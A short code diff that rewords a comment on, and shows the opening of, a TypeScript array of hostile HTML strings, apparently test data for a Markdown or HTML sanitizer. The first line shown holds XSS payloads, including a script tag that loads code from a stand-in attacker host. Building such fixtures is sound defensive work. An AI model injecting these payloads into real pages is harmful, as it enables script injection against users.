@@ -1,4 +1,4 @@
-/** Raw HTML that acts, loads, hides or clobbers, as attackers write it in Markdown and descriptions. */
+/** Raw HTML that runs, loads, hides or clobbers something, as attackers write it in Markdown and descriptions. */
 // prettier-ignore
 export const hostileHtml: readonly string[] = [
   "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
